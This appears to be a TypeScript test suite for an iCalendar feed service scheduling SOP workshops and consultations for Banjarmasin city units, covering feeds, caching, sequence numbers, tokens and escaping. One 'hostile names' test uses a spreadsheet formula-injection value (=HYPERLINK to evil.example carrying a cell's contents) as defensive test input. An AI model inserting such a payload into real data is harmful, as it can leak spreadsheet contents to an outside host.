import { buildApp } from '../../src/app';
import { loadConfig } from '../../src/config';
import { buildTestApp, BASE_URL, expectProblem, type TestApp } from '../helpers/app';
import { seedPeriod } from '../helpers/asistensi';
import { contentLines, parseFeed, rawProblems } from '../helpers/ics';

let t: TestApp;
beforeEach(async () => (t = await buildTestApp({ now: '2013-10-01T00:00:00Z' })));
afterEach(() => t.app.close());

const WITA = 'Asia/Makassar';
/** What every event UID ends with: the deployment's own id, not the host name. */
const uidHost = async () => `${await t.sqlValue<string>('SELECT uid FROM deployment')}.sop`;

/** The seed's shape in small: a batch, an asistensi period, a unit with officials and a booking. */
async function scenario() {
  const { programme, period, slot } = await seedPeriod(t, { location: 'Ruang Rapat Bagian Organisasi' });
  await t.organiser.patch(`/programmes/${programme.id}`, { draftDeadline: '2013-10-18', finalDeadline: '2013-11-29', organiserEmail: 'organisasi@banjarmasinkota.go.id' });
  const batch = await t.make.batch(programme.id, { name: 'Angkatan I', venue: 'Aula Kayuh Baimbai, Balai Kota' });
  const dishub = await t.make.unit({ code: 'DISHUB', name: 'Dinas Perhubungan' });
  const other = await t.make.unit({ code: 'DLH', name: 'Dinas Lingkungan Hidup' });
  const people = [];
  for (const name of ['Ahmad Fauzi', 'Siti Aminah']) {
    const p = await t.make.participant(dishub.id, { name });
    people.push(p);
    await t.organiser.post(`/batches/${batch.id}/enrolments`, { participantId: p.id });
  }
  const booking = (await t.organiser.post(`/asistensi-periods/${period.id}/bookings`, { unitId: dishub.id, slotId: slot('2013-10-21').id, topic: 'SOP izin trayek' })).body;
  const otherBooking = (await t.organiser.post(`/asistensi-periods/${period.id}/bookings`, { unitId: other.id, slotId: slot('2013-10-22').id })).body;
  return { programme, period, slot, batch, dishub, other, people, booking, otherBooking };
}

const feedOf = async (url: string) => {
  const res = await t.as().get(url);
  expect(res.status).toBe(200);
  return res.body as string;
};

describe('programme feed', () => {
  it('is valid iCalendar with every batch day, booking and deadline at the right local time', async () => {
    const s = await scenario();
    const res = await t.as().get(`/calendars/programmes/${s.programme.id}.ics`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/calendar; charset=utf-8');
    expect(res.headers['cache-control']).toBe('max-age=900');
    expect(res.headers['content-disposition']).toBe(`inline; filename="programme-${s.programme.id}.ics"`);
    expect(res.headers.etag).toMatch(/^"[A-Za-z0-9_-]+"$/);
    const text = res.body as string;
    expect(rawProblems(text)).toEqual([]);

    const events = parseFeed(text);
    expect([...events.keys()].sort()).toEqual(
      [
        `batch-${s.batch.id}-day-1@${await uidHost()}`,
        `batch-${s.batch.id}-day-2@${await uidHost()}`,
        `booking-${s.booking.id}@${await uidHost()}`,
        `booking-${s.otherBooking.id}@${await uidHost()}`,
        `programme-${s.programme.id}-draft-deadline@${await uidHost()}`,
        `programme-${s.programme.id}-final-deadline@${await uidHost()}`,
      ].sort(),
    );
    const day1 = events.get(`batch-${s.batch.id}-day-1@${await uidHost()}`)!;
    expect(day1.localStart(WITA)).toBe('2013-10-07T08:00');
    expect(day1.summary).toBe('Workshop SOP - Angkatan I (hari 1/2)');
    expect(day1.location).toBe('Aula Kayuh Baimbai, Balai Kota');
    expect(day1.description).toContain('Senin, 7 Oktober 2013, 08.00–16.00 WITA');
    const booking = events.get(`booking-${s.booking.id}@${await uidHost()}`)!;
    expect(booking.localStart(WITA)).toBe('2013-10-21T09:00');
    expect(booking.raw.start.toISOString()).toBe('2013-10-21T01:00:00.000Z');
    expect(booking).toMatchObject({ summary: 'Asistensi SOP - Dinas Perhubungan', status: 'CONFIRMED', sequence: 0, location: 'Ruang Rapat Bagian Organisasi' });
    // The unit's topic is its own text: not published in the public feed.
    expect(booking.description).not.toContain('SOP izin trayek');

    const lines = contentLines(text);
    expect(lines).toContain('DTSTART;TZID=Asia/Makassar:20131021T090000');
    expect(lines).toContain('DTSTART;VALUE=DATE:20131018');
    expect(lines).toContain('DTEND;VALUE=DATE:20131019');
    expect(lines).toContain('DTSTART;VALUE=DATE:20131129');
    expect(lines).toContain('X-WR-CALNAME:Penyusunan SOP 2013');
    expect(lines).toContain('ORGANIZER;CN="Bagian Organisasi":mailto:organisasi@banjarmasinkota.go.id');
    expect(lines.filter((l) => l === 'TZID:Asia/Makassar')).toHaveLength(1);
  });

  it('regenerates byte for byte while nothing changes, answers 304 to its ETag, works for HEAD and any Accept', async () => {
    const s = await scenario();
    const url = `/calendars/programmes/${s.programme.id}.ics`;
    const first = await t.as().get(url);
    t.clock.advance({ days: 3 });
    const second = await t.as().get(url);
    expect(second.body).toBe(first.body);
    expect(second.headers.etag).toBe(first.headers.etag);

    const notModified = await t.as().get(url, { 'if-none-match': first.headers.etag as string });
    expect(notModified.status).toBe(304);
    expect(notModified.body).toBe('');
    expect(notModified.headers.etag).toBe(first.headers.etag);
    expect((await t.as().get(url, { 'if-none-match': `"other", W/${first.headers.etag}` })).status).toBe(304);
    expect((await t.as().get(url, { 'if-none-match': '"stale"' })).status).toBe(200);

    for (const accept of ['text/calendar', 'text/html', 'application/json', '*/*', 'text/x-vcalendar;q=0.5, nonsense']) {
      const res = await t.as().get(url, { accept });
      expect({ accept, status: res.status }).toEqual({ accept, status: 200 });
    }
    const head = await t.app.inject({ method: 'HEAD', url });
    expect(head.statusCode).toBe(200);
    expect(head.headers['content-type']).toBe('text/calendar; charset=utf-8');
    expect(head.body).toBe('');
  });

  it('keeps the UID and raises SEQUENCE on reschedule, then shows the cancellation for 30 days', async () => {
    const s = await scenario();
    const url = `/calendars/programmes/${s.programme.id}.ics`;
    const uid = `booking-${s.booking.id}@${await uidHost()}`;

    t.clock.set('2013-10-02T01:00:00Z');
    await t.organiser.patch(`/bookings/${s.booking.id}`, { slotId: s.slot('2013-10-24', '13:00').id });
    const moved = parseFeed(await feedOf(url)).get(uid)!;
    expect(moved).toMatchObject({ sequence: 1, status: 'CONFIRMED' });
    expect(moved.localStart(WITA)).toBe('2013-10-24T13:00');
    expect(moved.raw.lastmodified!.toISOString()).toBe('2013-10-02T01:00:00.000Z');

    t.clock.set('2013-10-03T01:00:00Z');
    await t.organiser.delete(`/bookings/${s.booking.id}`);
    const cancelled = parseFeed(await feedOf(url)).get(uid)!;
    expect(cancelled).toMatchObject({ sequence: 2, status: 'CANCELLED' });
    expect(cancelled.localStart(WITA)).toBe('2013-10-24T13:00');

    t.clock.set('2013-11-02T00:59:00Z'); // 29 days 23 hours later: still there
    expect(parseFeed(await feedOf(url)).get(uid)?.status).toBe('CANCELLED');
    t.clock.set('2013-11-02T01:00:01Z'); // just over 30 days: gone
    const later = parseFeed(await feedOf(url));
    expect(later.has(uid)).toBe(false);
    expect(later.has(`booking-${s.otherBooking.id}@${await uidHost()}`)).toBe(true);
  });

  it('raises SEQUENCE when a batch moves or changes venue, when a deadline moves, and when a day closes', async () => {
    const s = await scenario();
    const url = `/calendars/programmes/${s.programme.id}.ics`;
    const deadlineSequence = parseFeed(await feedOf(url)).get(`programme-${s.programme.id}-final-deadline@${await uidHost()}`)!.sequence;
    await t.organiser.patch(`/batches/${s.batch.id}`, { name: 'Angkatan I (gabungan)' });
    expect(parseFeed(await feedOf(url)).get(`batch-${s.batch.id}-day-1@${await uidHost()}`)!.sequence).toBe(0);
    await t.organiser.patch(`/batches/${s.batch.id}`, { venue: 'Hotel Victoria' });
    await t.organiser.patch(`/batches/${s.batch.id}`, { days: [{ date: '2013-10-07', start: '09:00', end: '16:00' }, { date: '2013-10-08', start: '08:00', end: '16:00' }] });
    await t.organiser.patch(`/programmes/${s.programme.id}`, { finalDeadline: '2013-12-02' });
    await t.organiser.post(`/asistensi-periods/${s.period.id}/closures`, { date: '2013-10-22', reason: 'Cuti bersama' });
    const events = parseFeed(await feedOf(url));
    const day1 = events.get(`batch-${s.batch.id}-day-1@${await uidHost()}`)!;
    expect([day1.sequence, day1.location, day1.localStart(WITA)]).toEqual([2, 'Hotel Victoria', '2013-10-07T09:00']);
    expect(events.get(`programme-${s.programme.id}-final-deadline@${await uidHost()}`)!.sequence).toBe(deadlineSequence + 1);
    expect(events.get(`booking-${s.otherBooking.id}@${await uidHost()}`)).toMatchObject({ status: 'CANCELLED', sequence: 1 });
  });

  it('can be switched off: then the programme and batch feeds answer 404', async () => {
    const s = await scenario();
    expect((await t.organiser.get(`/programmes/${s.programme.id}`)).body.calendarUrl).toBe(`${BASE_URL}/calendars/programmes/${s.programme.id}.ics`);
    expect((await t.organiser.get(`/batches/${s.batch.id}`)).body.calendarUrl).toBe(`${BASE_URL}/calendars/batches/${s.batch.id}.ics`);
    const off = await t.organiser.patch(`/programmes/${s.programme.id}`, { publicCalendar: false });
    expect(off.body).toMatchObject({ publicCalendar: false, calendarUrl: null });
    expect((await t.organiser.get(`/batches/${s.batch.id}`)).body.calendarUrl).toBeNull();
    expectProblem(await t.as().get(`/calendars/programmes/${s.programme.id}.ics`), 404, 'NOT_FOUND');
    expectProblem(await t.as().get(`/calendars/batches/${s.batch.id}.ics`), 404, 'NOT_FOUND');
    expectProblem(await t.as().get('/calendars/programmes/999.ics'), 404, 'NOT_FOUND');
    expectProblem(await t.as().get('/calendars/programmes/abc.ics'), 400, 'VALIDATION_FAILED');
  });
});

describe('batch feed', () => {
  it('has the batch’s days only, named in Indonesian', async () => {
    const s = await scenario();
    const text = await feedOf(`/calendars/batches/${s.batch.id}.ics`);
    expect(rawProblems(text)).toEqual([]);
    expect(contentLines(text)).toContain('X-WR-CALNAME:Workshop SOP - Angkatan I');
    const events = parseFeed(text);
    expect([...events.values()].map((e) => e.localStart(WITA))).toEqual(['2013-10-07T08:00', '2013-10-08T08:00']);
  });
});

describe('unit feed', () => {
  it('is issued, rotated and private: an old token gets 410 Gone, wrong and other units’ tokens 404', async () => {
    const s = await scenario();
    const dishubKey = t.as(await t.unitKey(s.dishub.id));
    const issued = await dishubKey.post(`/units/${s.dishub.id}/calendar-token`, {});
    expect(issued.status).toBe(201);
    expect(issued.body.url).toMatch(new RegExp(`^${BASE_URL}/calendars/units/[A-Za-z0-9_-]{43}\\.ics$`));
    expect(issued.body.webcalUrl).toBe(issued.body.url.replace('https:', 'webcal:'));
    const path = new URL(issued.body.url).pathname;
    expect((await t.as().get(path)).status).toBe(200);
    expect((await t.organiser.get(`/units/${s.dishub.id}`)).body.calendarTokenIssuedAt).toBe('2013-10-01T00:00:00.000Z');
    expect(JSON.stringify(await t.sql('select * from units'))).not.toContain(path.split('/').pop()!.replace('.ics', ''));

    const rotated = await t.organiser.post(`/units/${s.dishub.id}/calendar-token`, {});
    expectProblem(await t.as().get(path), 410, 'FEED_ADDRESS_REPLACED');
    expect((await t.as().get(new URL(rotated.body.url).pathname)).status).toBe(200);
    expectProblem(await t.as().get(`/calendars/units/${'A'.repeat(43)}.ics`), 404, 'NOT_FOUND');
    expectProblem(await t.as().get('/calendars/units/short.ics'), 404, 'NOT_FOUND');
    expectProblem(await dishubKey.post(`/units/${s.other.id}/calendar-token`, {}), 404, 'NOT_FOUND');
    expectProblem(await t.as().post(`/units/${s.dishub.id}/calendar-token`, {}), 401, 'UNAUTHENTICATED');
    expectProblem(await t.organiser.post('/units/999/calendar-token', {}), 404, 'NOT_FOUND');
  });

  it('shows the unit’s batch days with its officials, its bookings and walk-ins, and the deadlines', async () => {
    const s = await scenario();
    t.clock.set('2013-10-31T09:00:00+08:00');
    await t.organiser.post(`/asistensi-periods/${s.period.id}/walk-ins`, { unitId: s.dishub.id, date: '2013-10-30', notes: 'Membawa revisi' });
    t.clock.set('2013-10-01T00:00:00Z');
    const token = (await t.organiser.post(`/units/${s.dishub.id}/calendar-token`, {})).body.url;
    const text = await feedOf(new URL(token).pathname);
    expect(rawProblems(text)).toEqual([]);
    expect(contentLines(text)).toContain('X-WR-CALNAME:Jadwal SOP - Dinas Perhubungan');
    const events = parseFeed(text);
    const day1 = events.get(`batch-${s.batch.id}-day-1@${await uidHost()}`)!;
    expect(day1.description).toContain('Peserta dari Dinas Perhubungan: Ahmad Fauzi, Siti Aminah.');
    expect(events.get(`booking-${s.booking.id}@${await uidHost()}`)!.localStart(WITA)).toBe('2013-10-21T09:00');
    expect(events.has(`booking-${s.otherBooking.id}@${await uidHost()}`)).toBe(false);
    expect([...events.keys()].some((k) => k.startsWith('walkin-'))).toBe(true);
    expect(events.has(`programme-${s.programme.id}-draft-deadline@${await uidHost()}`)).toBe(true);
    expect(contentLines(text)).toContain('DTSTART;VALUE=DATE:20131030');

    // The feed follows enrolment changes: a cancelled official drops out of the description.
    const enrolment = (await t.organiser.get(`/batches/${s.batch.id}/enrolments`)).body[0];
    t.clock.advance({ hours: 1 });
    await t.organiser.delete(`/enrolments/${enrolment.id}`);
    const after = parseFeed(await feedOf(new URL(token).pathname)).get(`batch-${s.batch.id}-day-1@${await uidHost()}`)!;
    expect(after.description).toContain('Peserta dari Dinas Perhubungan: Siti Aminah.');
    expect(after.raw.lastmodified!.toISOString()).toBe('2013-10-01T01:00:00.000Z');
  });
});

describe('GET /bookings/:id.ics', () => {
  it('downloads one event for its unit or an organiser', async () => {
    const s = await scenario();
    const res = await t.as(await t.unitKey(s.dishub.id)).get(`/bookings/${s.booking.id}.ics`);
    expect(res.status).toBe(200);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="booking-${s.booking.id}.ics"`);
    expect(rawProblems(res.body, { feed: false })).toEqual([]);
    // The unit's own file carries its topic.
    expect([...parseFeed(res.body).values()][0]!.description).toContain('Topik: SOP izin trayek');
    expect([...parseFeed(res.body).keys()]).toEqual([`booking-${s.booking.id}@${await uidHost()}`]);
    expect((await t.organiser.get(`/bookings/${s.booking.id}.ics`)).status).toBe(200);
    expectProblem(await t.as(await t.unitKey(s.other.id)).get(`/bookings/${s.booking.id}.ics`), 404, 'NOT_FOUND');
    expectProblem(await t.as().get(`/bookings/${s.booking.id}.ics`), 401, 'UNAUTHENTICATED');
    // Long after its cancellation it is gone from feeds, but its own file still says so.
    await t.organiser.delete(`/bookings/${s.booking.id}`);
    t.clock.advance({ days: 90 });
    expect([...parseFeed((await t.organiser.get(`/bookings/${s.booking.id}.ics`)).body).values()][0]!.status).toBe('CANCELLED');
  });
});

describe('text in feeds', () => {
  it('escapes text values (the calendar name too) and folds long UTF-8 lines without splitting characters', async () => {
    const programme = await t.make.programme({ name: 'SOP 2013; Kota Banjarmasin, "Baiman" — ÅÄÖ 日本語 ' + 'ĕ'.repeat(60) });
    const text = await feedOf(`/calendars/programmes/${programme.id}.ics`);
    expect(rawProblems(text)).toEqual([]);
    expect(contentLines(text).find((l) => l.startsWith('X-WR-CALNAME:'))).toBe(
      'X-WR-CALNAME:SOP 2013\\; Kota Banjarmasin\\, "Baiman" — ÅÄÖ 日本語 ' + 'ĕ'.repeat(60),
    );
  });
});

describe('calendar clients', () => {
  it('see a cancelled or displaced event as cancelled in its title too, free, and with the organiser’s reason', async () => {
    const s = await scenario();
    await t.organiser.delete(`/bookings/${s.booking.id}`);
    await t.organiser.post(`/asistensi-periods/${s.period.id}/closures`, { date: '2013-10-22', reason: 'Rapat paripurna DPRD' });
    const text = await feedOf(`/calendars/programmes/${s.programme.id}.ics`);
    const events = parseFeed(text);
    const cancelled = events.get(`booking-${s.booking.id}@${await uidHost()}`)!;
    const displaced = events.get(`booking-${s.otherBooking.id}@${await uidHost()}`)!;
    expect([cancelled.summary, cancelled.status, cancelled.raw.transparency]).toEqual(['DIBATALKAN: Asistensi SOP - Dinas Perhubungan', 'CANCELLED', 'TRANSPARENT']);
    expect([displaced.summary, displaced.status]).toEqual(['DIBATALKAN: Asistensi SOP - Dinas Lingkungan Hidup', 'CANCELLED']);
    expect(displaced.description).toContain('Rapat paripurna DPRD');
    expect(events.get(`batch-${s.batch.id}-day-1@${await uidHost()}`)!.raw.transparency).toBe('OPAQUE');
  });

  it('keep the same UIDs when PUBLIC_BASE_URL changes, and a moved workshop day keeps its UID', async () => {
    const s = await scenario();
    const url = `/calendars/programmes/${s.programme.id}.ics`;
    const before = [...parseFeed(await feedOf(url)).keys()].sort();
    const moved = await buildApp({ config: loadConfig({ PUBLIC_BASE_URL: 'https://jadwal-sop.example.go.id', DEFAULT_TIMEZONE: 'WITA' }), database: t.app.database, clock: t.clock, logger: false });
    try {
      const after = [...parseFeed((await moved.inject({ url })).body).keys()].sort();
      expect(after).toEqual(before);
    } finally {
      await moved.close();
    }
    await t.organiser.patch(`/batches/${s.batch.id}`, { days: [{ date: '2013-10-09', start: '08:00', end: '16:00' }, { date: '2013-10-10', start: '08:00', end: '16:00' }] });
    const day1 = parseFeed(await feedOf(url)).get(`batch-${s.batch.id}-day-1@${await uidHost()}`)!;
    expect(day1.localStart(WITA)).toBe('2013-10-09T08:00');
  });

  it('get a private feed as private, Last-Modified, and 304 on If-Modified-Since; a zone change moves DTSTAMP with SEQUENCE', async () => {
    const s = await scenario();
    const token = new URL((await t.organiser.post(`/units/${s.dishub.id}/calendar-token`, {})).body.url).pathname;
    const first = await t.as().get(token);
    expect(first.headers['cache-control']).toBe('private, max-age=900');
    const lastModified = String(first.headers['last-modified']);
    expect(new Date(lastModified).toISOString()).toBe('2013-10-01T00:00:00.000Z');
    expect((await t.as().get(token, { 'if-modified-since': lastModified })).status).toBe(304);
    expect((await t.as().get(`/calendars/programmes/${s.programme.id}.ics`)).headers['cache-control']).toBe('max-age=900');

    t.clock.set('2013-10-05T03:00:00Z');
    await t.organiser.patch(`/programmes/${s.programme.id}`, { timezone: 'WIB' });
    const changed = await t.as().get(token, { 'if-modified-since': lastModified });
    expect(changed.status).toBe(200);
    const booking = parseFeed(changed.body).get(`booking-${s.booking.id}@${await uidHost()}`)!;
    expect([booking.sequence, booking.raw.dtstamp!.toISOString(), booking.raw.lastmodified!.toISOString()]).toEqual([1, '2013-10-05T03:00:00.000Z', '2013-10-05T03:00:00.000Z']);
    const day1 = parseFeed(changed.body).get(`batch-${s.batch.id}-day-1@${await uidHost()}`)!;
    expect([day1.sequence, day1.raw.lastmodified!.toISOString()]).toEqual([1, '2013-10-05T03:00:00.000Z']);
  });

  it('take a feed built from hostile names', async () => {
    const programme = await t.make.programme({ name: 'SOP; "2013", \\Kota\\ — <b>&amp;</b> 😀' });
    const { programme: other, period, slot } = await seedPeriod(t, { location: 'Ruang; Rapat, "Lt. 2"' });
    const unit = await t.make.unit({ name: '=HYPERLINK("http://evil.example/?"&A1,"klik")' });
    await t.organiser.post(`/asistensi-periods/${period.id}/bookings`, { unitId: unit.id, slotId: slot('2013-10-21').id, topic: 'Baris 1\nBaris 2\tdengan tab' });
    expect(rawProblems(await feedOf(`/calendars/programmes/${programme.id}.ics`))).toEqual([]);
    const text = await feedOf(`/calendars/programmes/${other.id}.ics`);
    expect(rawProblems(text)).toEqual([]);
    expect([...parseFeed(text).values()].map((e) => e.summary)).toContain('Asistensi SOP - =HYPERLINK("http://evil.example/?"&A1,"klik")');
    expectProblem(await t.organiser.post('/units', { code: 'BEL', name: 'Dinas\u0007', kind: 'dinas' }), 400, 'VALIDATION_FAILED');
    const topic = expectProblem(await t.organiser.post(`/asistensi-periods/${period.id}/bookings`, { unitId: unit.id, slotId: slot('2013-10-22').id, topic: 'a\u2028b' }), 400, 'VALIDATION_FAILED');
    expect(topic.errors).toEqual([{ path: '/body/topic', message: 'must not contain control characters (only tab and newline)' }]);
  });
});
